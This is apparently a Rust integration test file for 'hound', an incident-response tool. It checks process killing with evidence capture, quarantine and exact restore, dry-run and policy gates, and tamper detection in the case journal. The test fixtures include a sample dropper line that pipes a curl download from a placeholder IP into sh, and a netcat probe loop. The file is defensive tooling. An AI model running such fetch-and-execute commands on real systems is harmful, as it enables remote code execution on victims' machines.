//! Remediation that loses nothing: evidence before kill, quarantine that
//! survives a crash and restores exactly, dry-run, policy, journal and report.

use crate::common::{hound, script};
use predicates::prelude::*;
use serde_json::Value;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::process::{Command, Stdio};
use std::time::Duration;

fn run(case: &std::path::Path, body: &str, extra: &[&str]) -> (std::process::Output, Value) {
    let (_d, p) = script("c.rhai", body);
    let out = hound()
        .args([
            "run",
            p.to_str().unwrap(),
            "--json",
            "--case",
            case.to_str().unwrap(),
        ])
        .args(extra)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let v = serde_json::from_str(text.lines().last().unwrap_or("null")).unwrap_or(Value::Null);
    (out, v)
}

fn sha256(path: &std::path::Path) -> String {
    hound::host::evidence::sha256_file(path).unwrap()
}

#[test]
fn kill_keeps_the_deleted_executable_as_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let exe = dir.path().join("implant");
    std::fs::copy("/bin/sleep", &exe).unwrap();
    let original = sha256(&exe);
    let mut child = Command::new(&exe).arg("60").spawn().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    std::fs::remove_file(&exe).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (out, v) = run(
        case.path(),
        &format!("proc::kill({}, #{{ grace: 1 }})\n", child.id()),
        &["--allow-destructive"],
    );
    let _ = child.wait();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["status"], "killed", "{v}");
    assert_eq!(v["gone"], true);
    let ev = case
        .path()
        .join("evidence")
        .join(v["evidence"].as_str().unwrap());
    assert_eq!(
        sha256(&ev.join("exe")),
        original,
        "the deleted binary was preserved byte for byte"
    );
    let manifest: Value =
        serde_json::from_str(&std::fs::read_to_string(ev.join("manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["process"]["exe_deleted"], true);
}

#[test]
fn killing_a_loop_with_its_tree_stops_the_respawning_and_a_lone_child_respawns() {
    let case = tempfile::tempdir().unwrap();
    let mut lp = Command::new("bash")
        .args(["-c", "while true; do sleep 30; done"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let kids = hound::host::proc::children(lp.id() as i64, &Default::default()).unwrap();
    let child = kids.first().expect("the loop's sleep").pid;
    // Killing only the child: the loop starts a new one.
    let (_, v) = run(
        case.path(),
        &format!("proc::kill({child}, #{{ grace: 1 }})\n"),
        &["--allow-destructive"],
    );
    assert_eq!(v["respawned"], true, "{v}");
    // Killing the loop with its tree: nothing is left.
    let (_, v) = run(
        case.path(),
        &format!("proc::kill({}, #{{ tree: true, grace: 1 }})\n", lp.id()),
        &["--allow-destructive"],
    );
    let _ = lp.wait();
    assert_eq!(v["gone"], true, "{v}");
    assert!(
        hound::host::proc::children(lp.id() as i64, &Default::default())
            .unwrap_or_default()
            .is_empty()
    );
}

#[test]
fn quarantine_and_restore_round_trip_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bot.sh");
    let content = "#!/bin/bash\n\nwhile true; do nc -zv 192.0.2.9 80; sleep 2; done\n";
    std::fs::write(&f, content).unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o750)).unwrap();
    let before = std::fs::metadata(&f).unwrap();
    let case = tempfile::tempdir().unwrap();
    let (out, q) = run(
        case.path(),
        &format!("fs::quarantine(\"{}\")\n", f.display()),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!f.exists(), "original removed");
    let id = q["id"].as_str().unwrap();
    assert_eq!(id, q["sha256"].as_str().unwrap());
    let (out, r) = run(
        case.path(),
        &format!("fs::restore(\"{id}\")\n"),
        &["--allow-destructive"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(r["status"], "restored");
    let after = std::fs::metadata(&f).unwrap();
    assert_eq!(std::fs::read_to_string(&f).unwrap(), content);
    assert_eq!(after.mode(), before.mode());
    assert_eq!(
        (after.mtime(), after.mtime_nsec()),
        (before.mtime(), before.mtime_nsec())
    );
    assert_eq!(after.uid(), before.uid());
}

#[test]
fn a_crash_between_copy_and_removal_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("payload");
    std::fs::write(&f, "evil").unwrap();
    let case = tempfile::tempdir().unwrap();
    let (_d, p) = script("q.rhai", &format!("fs::quarantine(\"{}\")\n", f.display()));
    hound()
        .env("HOUND_FAILPOINT", "quarantine_after_copy")
        .args([
            "run",
            p.to_str().unwrap(),
            "--allow-destructive",
            "--case",
            case.path().to_str().unwrap(),
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("failpoint"));
    assert_eq!(
        std::fs::read_to_string(&f).unwrap(),
        "evil",
        "the original is still there"
    );
    let stored = case.path().join("quarantine").join(sha256(&f));
    assert_eq!(
        std::fs::read_to_string(stored).unwrap(),
        "evil",
        "and so is the copy"
    );
}

#[test]
fn dry_run_and_policy_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("payload");
    std::fs::write(&f, "x").unwrap();
    let mut child = Command::new("sleep").arg("30").spawn().unwrap();
    let case = tempfile::tempdir().unwrap();
    let body = format!("let a = fs::quarantine(\"{}\");\nlet b = proc::kill({});\n#{{ a: a.status, b: b.status }}\n", f.display(), child.id());
    let (out, v) = run(case.path(), &body, &["--dry-run"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(v["a"], "dry_run");
    assert_eq!(v["b"], "dry_run");
    assert!(f.exists());
    assert!(
        child.try_wait().unwrap().is_none(),
        "the process still runs"
    );
    let (out, _) = run(case.path(), &body, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--allow-destructive"));
    assert!(f.exists());
    assert!(child.try_wait().unwrap().is_none());
    let _ = child.kill();
    let _ = child.wait();
    let (_d, p) = script("r.rhai", "fs::quarantine(\"/etc/passwd\")\n");
    hound()
        .args([
            "run",
            p.to_str().unwrap(),
            "--allow-destructive",
            "--case",
            case.path().to_str().unwrap(),
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("system path"));
}

#[test]
fn journal_verifies_and_detects_tampering_and_the_report_tells_the_story() {
    let case = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("dropper.sh");
    std::fs::write(&f, "curl http://198.51.100.7/x | sh\n").unwrap();
    let body = format!(
        "case::finding(\"high\", \"Dropper in a temp dir\", #{{ evidence: \"{0}\", mitre: \"T1105\" }});\ncase::evidence(\"{0}\");\nfs::quarantine(\"{0}\");\ncase::report(\"md\")\n",
        f.display()
    );
    let (out, v) = run(case.path(), &body, &["--allow-destructive"]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "findings make exit 1: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = std::fs::read_to_string(v.as_str().unwrap()).unwrap();
    for needle in [
        "## Conclusion",
        "was compromised: Dropper in a temp dir",
        "T1105",
        "## Evidence preserved (1)",
        "fs::quarantine",
        "fs::restore",
        "## Recommendations",
    ] {
        assert!(report.contains(needle), "report lacks {needle}:\n{report}");
    }
    let c = case.path().to_str().unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .success()
        .stdout(predicate::str::contains("intact"));
    hound()
        .args(["report", c, "--format", "json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"verdict\""));
    let j = case.path().join("journal.jsonl");
    let text = std::fs::read_to_string(&j).unwrap();
    std::fs::write(&j, text.replacen("high", "low", 1)).unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("line 1"));
    let kept: Vec<&str> = text.lines().collect();
    std::fs::write(&j, format!("{}\n", kept[..kept.len() - 1].join("\n"))).unwrap();
    hound()
        .args(["case", "verify", c])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cut off the end"));
}
